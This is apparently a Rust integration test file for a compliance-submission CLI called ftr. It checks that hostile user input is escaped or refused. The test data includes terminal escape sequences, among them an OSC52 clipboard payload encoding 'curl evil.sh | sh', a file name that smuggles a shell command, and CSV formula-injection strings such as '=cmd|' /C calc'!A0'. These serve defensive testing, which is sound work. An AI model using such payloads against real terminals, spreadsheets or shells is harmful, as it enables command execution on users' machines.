//! Hostile text from the user, and odd settings, through the real binary: what reaches a
//! terminal, a spreadsheet, a shell, and the bundle.

use std::io::Read;
use std::path::Path;

use crate::common::{self, Scratch};

/// Every entry of a zip, by name.
fn unzip(path: &Path) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            f.read_to_end(&mut bytes).unwrap();
            (f.name().unwrap().to_string(), bytes)
        })
        .collect()
}

fn entry(entries: &[(String, Vec<u8>)], name: &str) -> String {
    let bytes = &entries
        .iter()
        .find(|(n, _)| n == name)
        .unwrap_or_else(|| panic!("no {name} in the bundle"))
        .1;
    String::from_utf8(bytes.clone()).unwrap()
}

/// Control characters a terminal acts on, and the bidi override: none may reach the screen.
fn assert_no_raw_controls(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| (c.is_control() && c != '\n' && c != '\r' && c != '\t') || c == '\u{202e}')
        .collect();
    assert!(bad.is_empty(), "{what} carries raw {bad:?}:\n{text}");
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8(out.stdout.clone()).unwrap()
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8(out.stderr.clone()).unwrap()
}

/// The fix command `ftr check` printed that starts with `start`.
fn printed_command(text: &str, start: &str) -> String {
    text.lines()
        .map(str::trim)
        .find(|l| l.starts_with(start))
        .unwrap_or_else(|| panic!("no `{start}` command:\n{text}"))
        .to_string()
}

/// Runs `cmd` as pasted into `sh` in the project's folder, with `ftr` the real binary.
fn paste_into_sh(s: &Scratch, cmd: &str) -> std::process::ExitStatus {
    std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("ftr() {{ \"$FTR\" \"$@\"; }}; {cmd}"))
        .env("FTR", assert_cmd::cargo::cargo_bin("ftr"))
        .env("FTR_DATA_DIR", s.file(".data"))
        .env("FTR_TODAY", common::TODAY)
        .env("FTR_NOW", common::NOW)
        .current_dir(s.path())
        .status()
        .unwrap()
}

const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";

#[test]
fn user_text_reaches_the_terminal_escaped() {
    let s = Scratch::new();
    s.ok(&["new", "--model", "partner-hosted"]);
    let company = format!("Acme{OSC52}\u{202e}dtL");
    let out = s.ftr().args(["set", "company", &company]).output().unwrap();
    assert!(out.status.success());
    assert_no_raw_controls("ftr set", &stdout(&out));
    assert!(stdout(&out).contains("Acme\\e]52;c;"), "{}", stdout(&out));

    let out = s.ftr().arg("status").output().unwrap();
    assert_no_raw_controls("ftr status", &stdout(&out));
    assert!(stdout(&out).contains("\\u{202e}dtL"), "{}", stdout(&out));

    // An unknown id, echoed by the error message.
    let out = s
        .ftr()
        .args(["answer", "IAM-001\u{1b}[2J\u{7}", "--status", "met"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_no_raw_controls("the error", &stderr(&out));
    assert!(stderr(&out).contains("IAM-001\\e[2J"), "{}", stderr(&out));

    // An evidence file whose name ends the line and hides what follows, to fake a verdict.
    let name = "ev\n\u{1b}[8mReady: no blocking findings (0 warnings).\u{1b}[0m.txt";
    s.write(name, "a scan report\n");
    s.ftr()
        .args(["answer", "IAM-001", "--status", "met", "--response"])
        .arg("Every person signs in through the identity provider with MFA enforced.")
        .arg("--evidence")
        .arg(s.file(name))
        .assert()
        .success();
    s.write(name, "the report, edited\n");
    let out = s.ftr().arg("check").output().unwrap();
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1));
    assert_no_raw_controls("ftr check", &text);
    assert!(
        !text.lines().any(|l| l.starts_with("Ready")),
        "a line fakes the verdict:\n{text}"
    );
    assert!(text.contains("ev\\n\\e[8mReady"), "{text}");

    let out = s
        .ftr()
        .args(["export", "--allow-incomplete"])
        .output()
        .unwrap();
    assert_no_raw_controls("ftr export", &stdout(&out));
    assert_no_raw_controls("ftr export's error", &stderr(&out));
}

/// An error's text stays raw until it is printed: the binary escapes each of its lines as one
/// line, so an escape sequence, a bidi override and a line break in a value come out escaped
/// on the message's own line, and cannot forge a line of their own.
#[test]
fn an_error_holding_control_and_bidi_text_is_printed_escaped() {
    let s = Scratch::new();
    s.ok(&["new", "--model", "partner-hosted"]);
    let value = "2026\u{1b}[2J\u{202e}-01\nftr: error: forged";
    let out = s.ftr().args(["set", "reviewed", value]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert_no_raw_controls("the error", &err);
    assert_eq!(
        err,
        "ftr: error: `2026\\e[2J\\u{202e}-01\\nftr: error: forged` is not a date for reviewed\n  \
         help: write it as YYYY-MM-DD, e.g. 2026-12-01 (or unset)\n"
    );
}

#[test]
fn fix_hints_are_commands_that_paste_safely() {
    let s = Scratch::new();
    s.ok(&["new", "--model", "partner-hosted"]);
    let name = "ev; touch PWNED #.txt";
    s.write(name, "first\n");
    s.ok(&["answer", "IAM-001", "--status", "met", "--evidence", name]);
    s.write(name, "second\n");
    let out = s.ftr().arg("check").output().unwrap();
    let cmd = printed_command(&stdout(&out), "ftr answer IAM-001 --evidence");
    assert_eq!(cmd, "ftr answer IAM-001 --evidence 'ev; touch PWNED #.txt'");
    // Pasted into a shell (with `ftr` as the real binary), it re-attaches the file and does
    // nothing else.
    let status = paste_into_sh(&s, &cmd);
    assert!(status.success());
    assert!(!s.file("PWNED").exists(), "the pasted hint ran a command");
    let out = s.ftr().arg("check").output().unwrap();
    assert!(
        !stdout(&out).contains("changed since it was attached"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn no_csv_cell_starts_a_formula_and_no_file_carries_raw_controls() {
    let s = Scratch::new();
    s.ftr()
        .args(["new", "--model", "partner-hosted"])
        .arg("--company")
        .arg("=cmd|' /C calc'!A0")
        .assert()
        .success();
    let risky = [
        "=HYPERLINK(\"http://evil.example\",\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed =1",
        "\r=1",
    ];
    s.ftr()
        .args(["answer", "IAM-001", "--status", "met"])
        .arg(format!("--response={}", risky[0]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-002", "--status", "na"])
        .arg(format!("--reason={}", risky[1]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-003", "--status", "not-met"])
        .arg(format!("--plan={}", risky[2]))
        .arg(format!("--owner={}", risky[3]))
        .args(["--due", "2027-01-31"])
        .arg(format!("--response={}", risky[4]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-004", "--status", "na"])
        .arg(format!("--reason={}", risky[5]))
        .assert()
        .success();
    s.ftr()
        .args(["answer", "IAM-005", "--status", "met"])
        .arg("--response=Bell\u{7} escape\u{1b}[31m backspace\u{8} and \u{202e}reversed")
        .assert()
        .success();
    s.ok(&["export", "--allow-incomplete"]);
    let entries = unzip(&s.file("ftr-submission.zip"));
    let csv = entry(&entries, "checklist.csv");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    assert!(cells > 100);
    assert!(
        csv.starts_with("\u{feff}ID,Requirement Description,Met?,Partner Response,"),
        "{csv}"
    );
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'+1+1"), "{csv}");
    for name in ["checklist.csv", "SUMMARY.md"] {
        let text = entry(&entries, name);
        for bad in ['\u{1b}', '\u{7}', '\u{8}', '\u{202e}'] {
            assert!(!text.contains(bad), "{name} carries a raw {bad:?}");
        }
    }
    // The spreadsheet, read by openpyxl: no cell is a formula or starts one, none carries a
    // raw control character, and the risky texts are there, quoted.
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import json, sys, openpyxl\n\
             ws = openpyxl.load_workbook(sys.argv[1])['FTR Requirements']\n\
             print(json.dumps([[c.value, c.data_type, c.quotePrefix] for r in ws.iter_rows() \
             for c in r if c.value is not None]))",
        )
        .arg(s.file("ftr-upload/self-assessment.xlsx"))
        .output()
        .expect("python3 with openpyxl is needed for this test");
    assert!(out.status.success(), "{}", stderr(&out));
    let cells: Vec<(String, String, bool)> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(cells.len() > 100);
    for (value, kind, quote_prefix) in &cells {
        assert_eq!(kind, "s", "{value:?} is not text");
        // Text that starts like a formula is kept text by Excel's quote prefix, not shown
        // with an apostrophe.
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']) || *quote_prefix,
            "a cell starts a formula without the quote prefix: {value:?}"
        );
        assert!(!value.starts_with("'="), "a visible apostrophe: {value:?}");
        assert_no_raw_controls("self-assessment.xlsx", value);
    }
    assert!(
        cells
            .iter()
            .any(|(v, _, q)| v.starts_with("=HYPERLINK(") && *q),
        "the formula-like response is kept as text"
    );
    // The reason and plan follow a label.
    for quoted in [
        "Not applicable: +1+1",
        "Tabbed =1\n\nRemediation plan: -2+3\nOwner: @SUM(A1:A9)",
    ] {
        assert!(
            cells.iter().any(|(v, ..)| v.contains(quoted)),
            "no cell holds {quoted:?}"
        );
    }
}

#[test]
fn a_malformed_date_setting_is_an_error_not_the_real_clock() {
    let s = Scratch::new();
    s.ok(&["new", "--model", "partner-hosted"]);
    let before = s.read_project();
    for (name, value, args) in [
        ("FTR_TODAY", "26/11/2026", &["check"][..]),
        ("FTR_TODAY", "2026-02-30", &["status"][..]),
        ("FTR_NOW", "tomorrow", &["set", "company", "X"][..]),
        (
            "SOURCE_DATE_EPOCH",
            "1.7e9",
            &["export", "--allow-incomplete"][..],
        ),
        (
            "SOURCE_DATE_EPOCH",
            "-1",
            &["export", "--allow-incomplete"][..],
        ),
    ] {
        let out = s.ftr().env(name, value).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{name}={value}: {out:?}");
        let err = stderr(&out);
        assert!(
            err.contains(name) && err.contains(value),
            "{name}={value}: {err}"
        );
        assert_eq!(s.read_project(), before, "{name}={value} changed the file");
        assert!(!s.file("ftr-submission.zip").exists());
    }
}

/// A partner-hosted project with IAM-001 met with a file, and what a draft needs.
fn small_project() -> Scratch {
    let s = Scratch::new();
    s.ok(&["new", "--model", "partner-hosted", "--company", "Acme Ltd"]);
    s.write("evidence/mfa.txt", "MFA is enforced for every user.\n");
    s.ftr()
        .args(["answer", "IAM-001", "--status", "met", "--response"])
        .arg("Every person signs in through the identity provider with MFA enforced.")
        .args(["--evidence", "evidence/mfa.txt", "--notes", "INTERNAL-NOTE"])
        .assert()
        .success();
    s
}

#[test]
fn the_bundle_carries_only_what_is_submitted() {
    let s = small_project();
    // An answer under the other checklist, then back to this one.
    s.ok(&["set", "model", "customer-deployed"]);
    s.ftr()
        .args(["answer", "ARCH-001", "--status", "met", "--response"])
        .arg("OTHER-CHECKLIST-TEXT")
        .assert()
        .success();
    s.ok(&["set", "model", "partner-hosted"]);
    // An answer to a control that scoping then switches off.
    s.ftr()
        .args(["answer", "RCVP-001", "--status", "met", "--response"])
        .arg("SCOPED-OUT-TEXT")
        .assert()
        .success();
    s.ok(&["set", "scoping.advertises_compliance", "no"]);
    // An answer under a retired id, and a scoping key nothing knows, written by hand.
    let mut text = s.read_project();
    text.push_str(
        "\n[answers.partner-hosted.ARC-003]\nstatus = \"met\"\nresponse = \"RETIRED-ID-TEXT\"\n",
    );
    let text = text.replacen(
        "[scoping]\n",
        "[scoping]\nmistyped_question_TYPO-KEY = true\n",
        1,
    );
    std::fs::write(s.project(), text).unwrap();
    s.ok(&["export", "--allow-incomplete"]);
    let entries = unzip(&s.file("ftr-submission.zip"));
    let toml = entry(&entries, "ftr-assessment.toml");
    let csv = entry(&entries, "checklist.csv");
    let summary = entry(&entries, "SUMMARY.md");
    for marker in [
        "OTHER-CHECKLIST-TEXT",
        "SCOPED-OUT-TEXT",
        "RETIRED-ID-TEXT",
        "INTERNAL-NOTE",
        "TYPO-KEY",
        "customer-deployed",
    ] {
        assert!(
            !toml.contains(marker),
            "the bundled project holds {marker}:\n{toml}"
        );
    }
    for marker in ["SCOPED-OUT-TEXT", "INTERNAL-NOTE", "OTHER-CHECKLIST-TEXT"] {
        assert!(!csv.contains(marker), "checklist.csv holds {marker}");
        assert!(!summary.contains(marker), "SUMMARY.md holds {marker}");
    }
    assert!(toml.contains("identity provider with MFA"), "{toml}");
    // The user's own file keeps everything.
    let kept = s.read_project();
    for marker in ["OTHER-CHECKLIST-TEXT", "SCOPED-OUT-TEXT", "RETIRED-ID-TEXT"] {
        assert!(kept.contains(marker));
    }
}

#[test]
fn every_byte_of_submitted_text_is_scanned_for_secrets() {
    let s = small_project();
    s.ftr()
        .args(["answer", "IAM-002", "--status", "not-met", "--plan"])
        .arg("Rotate the keys every quarter")
        .args(["--owner", "AKIAIOSFODNN7EXAMPLE", "--due", "2027-01-31"])
        .assert()
        .success();
    let out = s
        .ftr()
        .args(["export", "--allow-incomplete"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(
        stderr(&out).contains("IAM-002 plan owner"),
        "{}",
        stderr(&out)
    );
    assert!(!s.file("ftr-submission.zip").exists());

    // A secret kept only in an answer that is not submitted does not stop the export.
    s.ok(&["answer", "IAM-002", "--status", "unanswered", "--owner", ""]);
    s.ftr()
        .args(["answer", "RCVP-001", "--status", "met", "--response"])
        .arg("key AKIAIOSFODNN7EXAMPLE")
        .assert()
        .success();
    s.ok(&["set", "scoping.advertises_compliance", "no"]);
    s.ok(&["export", "--allow-incomplete"]);
    let entries = unzip(&s.file("ftr-submission.zip"));
    for (name, bytes) in &entries {
        assert!(
            !String::from_utf8_lossy(bytes).contains("AKIAIOSFODNN7EXAMPLE"),
            "{name} holds the key"
        );
    }
}

/// `ftr check --json`'s error and warning counts.
fn check_counts(s: &Scratch, project: &Path) -> (u64, u64) {
    let out = s
        .ftr()
        .args(["check", "--json", "--project"])
        .arg(project)
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    (
        v["errors"].as_u64().unwrap(),
        v["warnings"].as_u64().unwrap(),
    )
}

#[test]
fn a_draft_leaves_out_a_file_changed_without_changing_size_and_counts_as_check_does() {
    let s = small_project();
    s.write("evidence/keys.txt", "rotation log: all keys rotated\n");
    s.ftr()
        .args(["answer", "IAM-002", "--status", "met", "--response"])
        .arg("Access keys are rotated every 90 days by a scheduled job we run.")
        .args(["--evidence", "evidence/keys.txt"])
        .assert()
        .success();
    // Same size, other bytes: only the fingerprint tells.
    s.write("evidence/keys.txt", "rotation log: NO keys rotated!\n");
    assert_eq!(
        std::fs::metadata(s.file("evidence/keys.txt"))
            .unwrap()
            .len(),
        "rotation log: all keys rotated\n".len() as u64
    );
    let (errors, warnings) = check_counts(&s, &s.project());
    // Without --allow-incomplete the export refuses, as ftr check would.
    s.ftr().arg("export").assert().code(1);
    s.ftr()
        .args(["export", "--allow-incomplete"])
        .assert()
        .success()
        .stdout(predicates::str::contains(
            "evidence/keys.txt (changed since attached)",
        ));
    let entries = unzip(&s.file("ftr-submission.zip"));
    assert!(
        !entries.iter().any(|(n, _)| n.ends_with("keys.txt")),
        "the changed file is in the draft"
    );
    let summary = entry(&entries, "SUMMARY.md");
    assert!(
        summary.contains(&format!(
            "not ready ({errors} error(s), {warnings} warning(s))"
        )),
        "ftr check counts {errors} errors and {warnings} warnings:\n{summary}"
    );
    let manifest: serde_json::Value =
        serde_json::from_str(&entry(&entries, "manifest.json")).unwrap();
    assert!(manifest["draft"].as_bool().unwrap());
}

#[test]
fn an_unzipped_bundle_reopens_and_finds_every_file() {
    let s = small_project();
    std::fs::create_dir(s.file("elsewhere")).unwrap();
    s.write(
        "elsewhere/policy.md",
        "# Password policy\n\nFourteen characters.\n",
    );
    std::os::unix::fs::symlink("policy.md", s.file("elsewhere/link.md")).unwrap();
    s.ftr()
        .args(["answer", "IAM-003", "--status", "met", "--response"])
        .arg("The account password policy requires fourteen characters and MFA.")
        .args([
            "--evidence",
            "elsewhere/policy.md",
            "--evidence",
            "elsewhere/link.md",
        ])
        .assert()
        .success();
    s.ok(&["export", "--allow-incomplete"]);
    let out = s.file("unzipped");
    for (name, bytes) in unzip(&s.file("ftr-submission.zip")) {
        let path = out.join(&name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
    let check = s
        .ftr()
        .args(["check", "--json", "--project"])
        .arg(out.join("ftr-assessment.toml"))
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    let evidence_findings: Vec<&serde_json::Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"].as_str().unwrap().starts_with("evidence"))
        .collect();
    assert!(evidence_findings.is_empty(), "{evidence_findings:?}");
    // And the answers came along.
    let status = s
        .ftr()
        .args(["status", "--json", "--project"])
        .arg(out.join("ftr-assessment.toml"))
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(v["overall"]["met"].as_u64(), Some(2), "{v}");
}

#[test]
fn out_naming_a_fifo_device_or_folder_is_refused_at_once() {
    let s = small_project();
    std::fs::create_dir(s.file("a-folder")).unwrap();
    let fifo = s.file("a-fifo.zip");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    for (out, says) in [
        (fifo.to_str().unwrap(), "not a regular file"),
        ("/dev/null", "not a regular file"),
        ("a-folder", "a folder"),
        ("no/such/folder/x.zip", "does not exist"),
    ] {
        // The guard only matters if the export hangs; a refusal takes milliseconds.
        let result = s
            .ftr()
            .args(["export", "--allow-incomplete", "--out", out])
            .timeout(std::time::Duration::from_secs(120))
            .output()
            .unwrap();
        assert_eq!(result.status.code(), Some(2), "--out {out}: {result:?}");
        assert!(
            stderr(&result).contains(says),
            "--out {out}: {}",
            stderr(&result)
        );
    }
    let leftovers: Vec<String> = std::fs::read_dir(s.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".ftr-export-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn paths_under_home_show_as_a_tilde_in_the_summary_unless_asked() {
    let s = Scratch::new();
    let home = s.file("home");
    let project_dir = home.join("acme-ftr");
    std::fs::create_dir_all(&project_dir).unwrap();
    std::fs::create_dir_all(home.join("docs")).unwrap();
    std::fs::write(home.join("docs/policy.txt"), "The password policy.\n").unwrap();
    let ftr = |args: &[&str]| {
        let mut cmd = s.ftr();
        cmd.env("HOME", &home).current_dir(&project_dir).args(args);
        cmd
    };
    ftr(&["new", "--model", "partner-hosted"])
        .assert()
        .success();
    ftr(&["answer", "IAM-003", "--status", "met", "--evidence"])
        .arg(home.join("docs/policy.txt"))
        .assert()
        .success();
    ftr(&["export", "--allow-incomplete"]).assert().success();
    let summary = entry(
        &unzip(&project_dir.join("ftr-submission.zip")),
        "SUMMARY.md",
    );
    let full = home.join("docs/policy.txt").display().to_string();
    assert!(summary.contains("~/docs/policy.txt"), "{summary}");
    assert!(!summary.contains(&full), "{summary}");
    ftr(&["export", "--allow-incomplete", "--full-paths"])
        .assert()
        .success();
    let summary = entry(
        &unzip(&project_dir.join("ftr-submission.zip")),
        "SUMMARY.md",
    );
    // Markdown escapes the underscores and may wrap, so look for the folder's own name.
    assert!(!summary.contains("~/docs/policy.txt"), "{summary}");
    assert!(summary.contains("home/docs/policy.txt"), "{summary}");
}

/// A security tool report edited without changing its size is caught as `ftr check` catches
/// it: counted the same in the summary, and left out of the draft with the reason.
#[test]
fn a_report_changed_in_place_is_counted_and_left_out_like_evidence() {
    let s = small_project();
    s.write("rep.csv", "a,b\n1,2\n");
    s.ok(&["set", "security-report", "rep.csv"]);
    s.write("rep.csv", "a,b\n9,9\n");
    let (errors, warnings) = check_counts(&s, &s.project());
    s.ftr().arg("export").assert().code(1);
    let out = s
        .ftr()
        .args(["export", "--allow-incomplete"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert!(
        stdout(&out).contains("rep.csv (changed since attached)"),
        "{}",
        stdout(&out)
    );
    let entries = unzip(&s.file("ftr-submission.zip"));
    assert!(
        !entries
            .iter()
            .any(|(n, _)| n.contains("security-tool-report"))
    );
    assert!(!s.file("ftr-upload/security-tool-report.csv").exists());
    let summary = entry(&entries, "SUMMARY.md");
    assert!(
        summary.contains(&format!(
            "not ready ({errors} error(s), {warnings} warning(s))"
        )),
        "check counts {errors} and {warnings}:\n{summary}"
    );
}

/// The bundled project file carries only what the statuses submit: no plan once met, no
/// reason unless n/a, no value the control does not ask for.
#[test]
fn answers_in_the_bundle_keep_only_what_their_status_submits() {
    let s = small_project();
    s.ok(&[
        "answer",
        "IAM-002",
        "--status",
        "not-met",
        "--plan",
        "OLD-PLAN-TEXT",
        "--owner",
        "OLD-OWNER",
        "--due",
        "2027-01-01",
    ]);
    s.ok(&[
        "answer",
        "IAM-002",
        "--status",
        "met",
        "--response",
        "Rotated.",
    ]);
    s.ok(&[
        "answer",
        "IAM-003",
        "--status",
        "na",
        "--reason",
        "OLD-REASON-TEXT",
    ]);
    s.ok(&[
        "answer",
        "IAM-003",
        "--status",
        "met",
        "--response",
        "Policy set.",
    ]);
    s.ok(&["answer", "RES-001", "--status", "met", "--value", "rpo=1h"]);
    let text = s.read_project().replace(
        "rpo = \"1h\"",
        "rpo = \"1h\"\nnote = \"UNASKED-VALUE-TEXT\"",
    );
    std::fs::write(s.project(), text).unwrap();
    s.ok(&["export", "--allow-incomplete"]);
    let toml = entry(&unzip(&s.file("ftr-submission.zip")), "ftr-assessment.toml");
    for marker in [
        "OLD-PLAN-TEXT",
        "OLD-OWNER",
        "OLD-REASON-TEXT",
        "UNASKED-VALUE-TEXT",
    ] {
        assert!(!toml.contains(marker), "the bundle holds {marker}:\n{toml}");
    }
    assert!(toml.contains("rpo = \"1h\""), "{toml}");
}

/// Secrets in what the export builds from the user's own files: a template sheet that holds
/// one, and a diagram's label.
#[test]
fn the_filled_template_and_attachment_labels_pass_the_secret_scan() {
    let s = small_project();
    let made = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import sys, openpyxl\n\
             wb = openpyxl.Workbook(); ws = wb.active; ws.title = 'FTR Requirements'\n\
             ws.append(['ID', 'Met?', 'Partner Response']); ws.append(['IAM-001', '', ''])\n\
             notes = wb.create_sheet('Notes'); notes['A1'] = 'key AKIAQWERTYUIOPASDFGH'\n\
             wb.save(sys.argv[1])\n",
        )
        .arg(s.file("tmpl.xlsx"))
        .output()
        .expect("python3 with openpyxl is needed (tests/run.sh installs it)");
    assert!(made.status.success(), "{made:?}");
    let out = s
        .ftr()
        .args(["export", "--allow-incomplete", "--template", "tmpl.xlsx"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(
        stderr(&out).contains("upload/self-assessment.xlsx"),
        "{}",
        stderr(&out)
    );
    assert!(!s.file("ftr-submission.zip").exists());

    s.write("diag.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    s.ok(&[
        "set",
        "diagram",
        "diag.png",
        "--label",
        "db_password: Zq9kLm2pw7",
    ]);
    let out = s
        .ftr()
        .args(["export", "--allow-incomplete"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(stderr(&out).contains("label"), "{}", stderr(&out));
}

/// `--out` never replaces the template, an attached file, or a zip that is not a bundle.
#[test]
fn out_never_replaces_the_template_an_attachment_or_a_foreign_zip() {
    let s = small_project();
    s.ok(&["export", "--allow-incomplete", "--out", "earlier.zip"]);
    // An earlier bundle may be replaced.
    s.ok(&["export", "--allow-incomplete", "--out", "earlier.zip"]);
    // A zip that is not a bundle may not.
    let mut zip = zip::ZipWriter::new(std::fs::File::create(s.file("photos.zip")).unwrap());
    zip.start_file("a.txt", zip::write::SimpleFileOptions::default())
        .unwrap();
    std::io::Write::write_all(&mut zip, b"holiday").unwrap();
    zip.finish().unwrap();
    s.write("diag.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    s.ok(&["set", "diagram", "diag.png"]);
    for (out, says) in [
        ("photos.zip", "not an earlier ftr bundle"),
        ("diag.png", "the attached file"),
    ] {
        let before = std::fs::read(s.file(out)).unwrap();
        let result = s
            .ftr()
            .args(["export", "--allow-incomplete", "--out", out])
            .output()
            .unwrap();
        assert_eq!(result.status.code(), Some(2), "--out {out}: {result:?}");
        assert!(stderr(&result).contains(says), "{}", stderr(&result));
        assert_eq!(std::fs::read(s.file(out)).unwrap(), before);
    }
}

/// Check and export judge on one clock: with the day fixed and SOURCE_DATE_EPOCH set for a
/// reproducible bundle, the summary counts what `ftr check` counts, and the export date is the
/// epoch's; with only the moment fixed, the export date is that moment's.
#[test]
fn check_and_export_share_one_clock() {
    let s = small_project();
    let (errors, warnings) = check_counts(&s, &s.project());
    s.ftr()
        .env("SOURCE_DATE_EPOCH", "1700000000") // 2023-11-14
        .args(["export", "--allow-incomplete"])
        .assert()
        .success();
    let summary = entry(&unzip(&s.file("ftr-submission.zip")), "SUMMARY.md");
    assert!(
        summary.contains(&format!(
            "not ready ({errors} error(s), {warnings} warning(s))"
        )),
        "{summary}"
    );
    assert!(summary.contains("| Exported | 2023-11-14 |"), "{summary}");
    s.ok(&["export", "--allow-incomplete"]);
    let summary = entry(&unzip(&s.file("ftr-submission.zip")), "SUMMARY.md");
    assert!(
        summary.contains(&format!("| Exported | {} |", common::TODAY)),
        "{summary}"
    );
}

/// A fix command for a file whose name starts with `-` runs when pasted.
#[test]
fn a_fix_for_a_file_named_like_an_option_runs_when_pasted() {
    let s = small_project();
    s.write("-e.txt", "first\n");
    s.ok(&[
        "answer",
        "IAM-002",
        "--status",
        "met",
        "--evidence",
        "./-e.txt",
    ]);
    s.write("-e.txt", "other\n");
    let cmd = printed_command(
        &stdout(&s.ftr().arg("check").output().unwrap()),
        "ftr answer IAM-002 --evidence",
    );
    let status = paste_into_sh(&s, &cmd);
    assert!(status.success(), "{cmd}");
}
